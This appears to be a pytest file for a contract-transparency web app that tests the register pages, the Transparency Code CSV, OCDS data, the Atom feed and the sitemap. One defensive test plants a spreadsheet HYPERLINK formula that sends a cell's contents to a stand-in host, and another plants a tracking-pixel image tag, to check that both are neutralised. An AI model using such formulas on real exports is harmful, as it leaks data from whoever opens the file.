"""The public contract register, the Transparency Code CSV, OCDS data, the feed and sitemap."""

import csv
import datetime
import io
import json
import urllib.parse
import xml.etree.ElementTree as ET
from decimal import Decimal
from pathlib import Path

import pytest
from jsonschema import Draft4Validator, FormatChecker
from referencing import Registry, Resource
from referencing.jsonschema import DRAFT4

from contracts.models import Commissioner, Contract, Extension
from contracts.ocds import release_package
from tests.factories import (
    CommissionerFactory,
    ContractFactory,
    LotFactory,
    PartnerBodyFactory,
    ProcurementPhaseFactory,
    ProviderFactory,
)

SCHEMAS = Path(__file__).resolve().parents[1] / "data" / "ocds-1.1.5"
ATOM = "{http://www.w3.org/2005/Atom}"
SITEMAP = "{http://www.sitemaps.org/schemas/sitemap/0.9}"


@pytest.fixture
def contracts(seed_decision, officer):
    """The seed's two drugs and alcohol contracts, extended by WPCC3-0058, a small contract,
    one still being planned, and one in a procurement phase with lots."""
    phase = ProcurementPhaseFactory(
        name="Phase 2",
        prior_information_notice_on=datetime.date(2022, 11, 1),
        starts_on=datetime.date(2022, 12, 1),
        ends_on=datetime.date(2024, 3, 31),
    )
    adult_lot = LotFactory(phase=phase, number=1, title="Adult criminal justice service")
    LotFactory(phase=phase, number=2, title="Young people's service")
    county = PartnerBodyFactory(name="Warwickshire County Council")
    adult = ContractFactory(
        reference="WOPCC-DA-ADULT-2018",
        title="Drugs and alcohol service for adults in the criminal justice system",
        description="Treatment and recovery support for adults referred by the police.",
        department="Finance and Commissioning",
        provider=ProviderFactory(name="Change Grow Live", charity_number="1079327"),
        lot=adult_lot,
        total_value=Decimal("1250000.00"),
        irrecoverable_vat=Decimal("0.00"),
        review_on=datetime.date(2022, 9, 30),
    )
    Commissioner.objects.create(contract=adult, body=None, role=Commissioner.Role.LEAD)
    CommissionerFactory(contract=adult, body=county, role=Commissioner.Role.FUNDER)
    adult.decisions.add(seed_decision)
    adult.extend(
        new_end=datetime.date(2024, 3, 31),
        reason="Interim extension while the joint commissioning with the county runs.",
        basis=Extension.Basis.EXEMPTION,
        by=officer,
        authorising_decision=seed_decision,
    )
    small = ContractFactory(
        reference="OPCC-S-001",
        title="Translation of victim leaflets",
        description="Leaflets in five languages.",
        provider=ProviderFactory(
            name="Wordsmiths Ltd", company_number="01234567", charity_number="", is_sme=True
        ),
        total_value=Decimal("8500.00"),
        starts_on=datetime.date(2023, 1, 1),
        ends_on=datetime.date(2023, 12, 31),
    )
    planned = ContractFactory(
        reference="OPCC-PLANNED",
        title="A service still being procured",
        status=Contract.Status.PLANNED,
    )
    return {"adult": adult, "small": small, "planned": planned}


# -- the register page --------------------------------------------------------------------------


def test_contract_over_threshold_is_listed_in_full(contracts, member_of_public):
    register = member_of_public.get("/contracts/").content.decode()
    assert 'href="/contracts/WOPCC-DA-ADULT-2018/"' in register
    page = member_of_public.get("/contracts/WOPCC-DA-ADULT-2018/").content.decode()

    for text in (
        "Drugs and alcohol service for adults in the criminal justice system",
        "WOPCC-DA-ADULT-2018",
        "Change Grow Live",
        "Charity number 1079327",
        "£1,250,000.00 over the term",
        "1 April 2018 to 31 March 2024",
        "Finance and Commissioning",
        "Warwickshire County Council (funder)",
        "Extension from 31 March 2023 to 31 March 2024",
        'href="/decisions/WPCC3-0058/"',
    ):
        assert text in page, text


def test_contract_at_or_below_threshold_shows_value_parties_and_purpose_only(
    contracts, member_of_public
):
    for address in ("/contracts/", "/contracts/OPCC-S-001/"):
        page = member_of_public.get(address).content.decode()

        assert "Translation of victim leaflets" in page
        assert "Wordsmiths Ltd" in page
        assert "£8,500.00" in page
        assert "Leaflets in five languages." not in page
        assert "01234567" not in page
        assert "31 December 2023" not in page


def test_contract_still_being_planned_is_not_listed(contracts, member_of_public):
    assert (
        "A service still being procured" not in member_of_public.get("/contracts/").content.decode()
    )


def test_contract_register_answers_conditional_requests(contracts, member_of_public):
    first = member_of_public.get("/contracts/")

    assert member_of_public.get("/contracts/", HTTP_IF_NONE_MATCH=first["ETag"]).status_code == 304


# -- the Transparency Code CSV ------------------------------------------------------------------


def csv_rows(client) -> list[dict]:
    response = client.get("/contracts.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8"))))


def test_csv_has_the_transparency_code_columns(contracts, member_of_public):
    rows = csv_rows(member_of_public)
    adult = next(row for row in rows if row["Reference"] == "WOPCC-DA-ADULT-2018")

    assert adult == {
        "Reference": "WOPCC-DA-ADULT-2018",
        "Title": "Drugs and alcohol service for adults in the criminal justice system",
        "Department": "Finance and Commissioning",
        "Description": "Treatment and recovery support for adults referred by the police.",
        "Supplier name": "Change Grow Live",
        "Supplier registration number": "1079327",
        "Total value (GBP)": "1250000.00",
        "Annual value (GBP)": "",
        "Irrecoverable VAT (GBP)": "0.00",
        "Start date": "2018-04-01",
        "End date": "2024-03-31",
        "Review date": "2022-09-30",
        "Let by quotation or published tender": "Published tender",
        "Supplier is an SME": "No",
        "Supplier is a VCSE": "Yes",
        "Commissioners": "Office of the Police and Crime Commissioner for Warwickshire "
        "(lead commissioner); Warwickshire County Council (funder)",
        # Not recorded for this contract: empty cells (tests/contracts/test_identifiers.py).
        "CPV codes": "",
        "Notices": "",
        "Procurement phase": f"{contracts['adult'].lot.phase.programme.title}: Phase 2",
        "Lot": "Lot 1: Adult criminal justice service",
        "Procurement phase route": "Published tender",
        "Procurement phase tender value (GBP)": "",
        "Procurement phase bids received": "",
        "Procurement phase outcome": "",
        "Procurement phase CPV codes": "",
        "Procurement phase notices": "",
        "Lot CPV codes": "",
    }


def test_csv_row_for_a_small_contract_has_value_parties_and_purpose_only(
    contracts, member_of_public
):
    small = next(row for row in csv_rows(member_of_public) if row["Reference"] == "OPCC-S-001")

    assert small["Title"] == "Translation of victim leaflets"
    assert small["Supplier name"] == "Wordsmiths Ltd"
    assert small["Total value (GBP)"] == "8500.00"
    assert small["Description"] == small["Supplier registration number"] == ""
    assert small["Start date"] == small["Supplier is an SME"] == ""


def test_csv_leaves_out_planned_contracts(contracts, member_of_public):
    assert "OPCC-PLANNED" not in {row["Reference"] for row in csv_rows(member_of_public)}


# -- OCDS -----------------------------------------------------------------------------------------


def load(name: str) -> dict:
    return json.loads((SCHEMAS / name).read_text(encoding="utf-8"))


def package_validator() -> Draft4Validator:
    """The release package schema, with its reference to the release schema resolved to the
    local copy: validation never touches the network."""
    package_schema = load("release-package-schema.json")
    release_schema = load("release-schema.json")
    registry = Registry().with_resources(
        [
            (schema["id"], Resource(contents=schema, specification=DRAFT4))
            for schema in (package_schema, release_schema)
        ]
    )
    checker = FormatChecker()

    @checker.checks("date-time", raises=ValueError)
    def is_date_time(value) -> bool:
        return (
            isinstance(value, str)
            and "T" in value
            and bool(datetime.datetime.fromisoformat(value).tzinfo)
        )

    @checker.checks("uri", raises=ValueError)
    def is_uri(value) -> bool:
        return not isinstance(value, str) or bool(urllib.parse.urlsplit(value).scheme)

    return Draft4Validator(package_schema, registry=registry, format_checker=checker)


def codes(codelist: str) -> set[str]:
    with (SCHEMAS / "codelists" / codelist).open(encoding="utf-8") as handle:
        return {row["Code"] for row in csv.DictReader(handle)}


@pytest.fixture
def package(contracts, member_of_public) -> dict:
    response = member_of_public.get("/contracts/ocds.json")
    assert response["Content-Type"] == "application/json; charset=utf-8"
    return response.json()


def test_ocds_package_is_valid_against_the_release_package_schema(package):
    errors = sorted(package_validator().iter_errors(package), key=lambda error: error.path)

    assert not errors, "\n".join(f"{list(e.path)}: {e.message}" for e in errors[:10])


def test_validator_is_not_blind(package):
    broken = json.loads(json.dumps(package))
    broken["releases"][0]["tag"] = ["signed"]
    del broken["releases"][1]["ocid"]
    broken["releases"][2]["date"] = "yesterday"

    assert len(list(package_validator().iter_errors(broken))) >= 3


def test_party_roles_come_from_the_party_role_codelist(package):
    roles = {
        role
        for release in package["releases"]
        for party in release["parties"]
        for role in party["roles"]
    }

    assert roles <= codes("partyRole.csv")
    assert {"buyer", "procuringEntity", "supplier", "funder"} <= roles


def releases_of(package: dict, ocid_end: str) -> list[dict]:
    return [release for release in package["releases"] if release["ocid"].endswith(ocid_end)]


def test_procurement_phase_is_one_process_from_planning_to_amendment(package, contracts):
    phase_key = f"phase-{contracts['adult'].lot.phase_id}"
    contract_key = f"contract-{contracts['adult'].pk}"

    releases = releases_of(package, phase_key)

    assert [release["tag"] for release in releases] == [
        ["planning"],
        ["tender"],
        ["award"],
        ["contract"],
        ["contractAmendment"],
    ]
    assert [release["id"] for release in releases] == [
        f"{phase_key}-planning",
        f"{phase_key}-tender",
        f"{contract_key}-award",
        f"{contract_key}-contract",
        f"extension-{contracts['adult'].extensions.get().pk}-amendment",
    ]
    tender = releases[1]["tender"]
    assert [item["description"] for item in tender["items"]] == [
        "Lot 1: Adult criminal justice service",
        "Lot 2: Young people's service",
    ]
    assert tender["procurementMethod"] == "open"


def test_extension_is_an_amendment_with_the_new_end_date(package, contracts):
    amendment = releases_of(package, f"phase-{contracts['adult'].lot.phase_id}")[-1]
    contract = amendment["contracts"][0]

    assert contract["period"]["endDate"].startswith("2024-03-31")
    assert contract["amendments"][0]["rationale"] == (
        "Interim extension while the joint commissioning with the county runs."
    )
    assert "WPCC3-0058" in contract["amendments"][0]["description"]
    assert contract["amendments"][0]["amendsReleaseID"].endswith("-contract")


def test_award_names_the_supplier_with_its_charity_number(package, contracts):
    award_release = next(r for r in package["releases"] if r["tag"] == ["award"])
    supplier = next(p for p in award_release["parties"] if "supplier" in p["roles"])

    assert award_release["awards"][0]["suppliers"] == [
        {"id": supplier["id"], "name": "Change Grow Live"}
    ]
    assert supplier["identifier"] == {
        "scheme": "GB-CHC",
        "id": "1079327",
        "legalName": "Change Grow Live",
    }
    assert award_release["awards"][0]["value"] == {"amount": 1250000, "currency": "GBP"}


def test_small_contract_release_has_value_parties_and_purpose_only(package, contracts):
    (release,) = releases_of(package, f"contract-{contracts['small'].pk}")

    assert release["tag"] == ["award", "contract"]
    assert release["contracts"][0] == {
        "id": f"contract-{contracts['small'].pk}",
        "awardID": f"contract-{contracts['small'].pk}-award",
        "title": "Translation of victim leaflets",
        "value": {"amount": 8500, "currency": "GBP"},
    }
    supplier = next(p for p in release["parties"] if "supplier" in p["roles"])
    assert "identifier" not in supplier


def test_ocids_and_release_ids_are_stable(contracts, settings):
    first = release_package(uri="https://opcc.example/contracts/ocds.json")
    second = release_package(uri="https://opcc.example/contracts/ocds.json")

    assert [(r["ocid"], r["id"]) for r in first["releases"]] == [
        (r["ocid"], r["id"]) for r in second["releases"]
    ]
    assert len({(r["ocid"], r["id"]) for r in first["releases"]}) == len(first["releases"])


def test_ocid_prefix_comes_from_the_setting(contracts, settings):
    settings.OCDS_PREFIX = "ocds-b5fd17"

    package = release_package(uri="https://opcc.example/contracts/ocds.json")

    assert all(release["ocid"].startswith("ocds-b5fd17-") for release in package["releases"])


def test_ocds_leaves_out_planned_contracts(package):
    assert "A service still being procured" not in json.dumps(package)


def test_ocds_answers_not_found_until_something_is_published(member_of_public):
    """A release package holds at least one release, so an office that has published no
    contract or procurement has no valid package to offer: the address says so (404), and
    answers with the package as soon as a contract is published."""
    ContractFactory(
        reference="OPCC-PLANNED",
        title="A service still being procured",
        status=Contract.Status.PLANNED,
    )

    nothing = member_of_public.get("/contracts/ocds.json")

    assert nothing.status_code == 404
    assert "No contract or procurement has been published yet" in nothing.content.decode()
    ContractFactory(reference="OPCC-LIVE-1", title="Victim support service")
    package = member_of_public.get("/contracts/ocds.json")
    assert package.status_code == 200
    assert not list(package_validator().iter_errors(package.json()))
    assert "Victim support service" in package.content.decode()
    assert "A service still being procured" not in package.content.decode()


# -- feed and sitemap -----------------------------------------------------------------------------


def test_feed_lists_publications_newest_first(
    make_decision, officer, seed_decision, member_of_public
):
    make_decision(
        reference="WPCC3-0090",
        title="A later decision",
        publish_by=officer,
    )

    response = member_of_public.get("/decisions/feed/")
    feed = ET.fromstring(response.content)  # noqa: S314 (the app's own output)
    entries = feed.findall(f"{ATOM}entry")

    assert response["Content-Type"].startswith("application/atom+xml")
    assert [entry.find(f"{ATOM}title").text for entry in entries][:2] == [
        "WPCC3-0090: A later decision",
        "WPCC3-0058: Joint-Commissioning of Drugs and Alcohol Misuse Services with "
        "Warwickshire County Council",
    ]
    assert entries[0].find(f"{ATOM}link").get("href").endswith("/decisions/WPCC3-0090/")
    assert feed.find(f"{ATOM}author/{ATOM}name").text.startswith("Office of the Police")


def test_feed_describes_a_confidential_decision_by_its_subject_only(
    make_decision, officer, member_of_public
):
    from tests.publication.conftest import costs_withheld

    make_decision(
        title="Covert support",
        public_subject="A contract supporting police operations.",
        summary="How the covert support works.",
        sections=[costs_withheld("Secret.")],
        publish_by=officer,
    )

    content = member_of_public.get("/decisions/feed/").content.decode()

    assert "A contract supporting police operations." in content
    assert "How the covert support works." not in content


def test_sitemap_lists_public_pages_and_published_decisions(
    seed_decision, make_decision, member_of_public
):
    make_decision(reference="WPCC3-0091", title="A draft")

    response = member_of_public.get("/sitemap.xml")
    sitemap = ET.fromstring(response.content)  # noqa: S314 (the app's own output)
    locations = [loc.text for loc in sitemap.iter(f"{SITEMAP}loc")]
    paths = {urllib.parse.urlsplit(location).path for location in locations}

    assert {"/decisions/", "/contracts/", "/decisions/WPCC3-0058/"} <= paths
    assert "/decisions/WPCC3-0091/" not in paths


def test_feed_answers_conditional_requests(seed_decision, member_of_public):
    first = member_of_public.get("/decisions/feed/")

    again = member_of_public.get("/decisions/feed/", HTTP_IF_MODIFIED_SINCE=first["Last-Modified"])

    assert again.status_code == 304


# -- what a spreadsheet or a feed reader would run -------------------------------------------------


def test_csv_cells_a_spreadsheet_would_read_as_formulas_are_neutralised(
    contracts, member_of_public
):
    formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'
    Contract.objects.filter(pk=contracts["adult"].pk).update(
        title=formula, description="+44 1926 000000", department="@SUM(1+1)"
    )

    adult = next(
        row for row in csv_rows(member_of_public) if row["Reference"] == "WOPCC-DA-ADULT-2018"
    )

    assert adult["Title"] == "'" + formula
    assert adult["Description"] == "'+44 1926 000000"
    assert adult["Department"] == "'@SUM(1+1)"
    # Cells that start otherwise are left as they are.
    assert adult["Total value (GBP)"] == "1250000.00"


def test_the_feed_shows_an_officers_markup_as_text(make_decision, officer, member_of_public):
    make_decision(
        title="Markup in a summary",
        summary='A <b>bold</b> claim <img src="https://tracker.example/pixel">',
        publish_by=officer,
    )

    feed = ET.fromstring(member_of_public.get("/decisions/feed/").content)  # noqa: S314
    summaries = [entry.find(f"{ATOM}summary") for entry in feed.findall(f"{ATOM}entry")]
    ours = next(s for s in summaries if s is not None and "bold" in (s.text or ""))

    # Declared as HTML, so the text is escaped once more: a reader shows the tags as typed
    # and loads no image.
    assert ours.get("type") == "html"
    assert "&lt;b&gt;bold&lt;/b&gt;" in ours.text
    assert "<img" not in ours.text
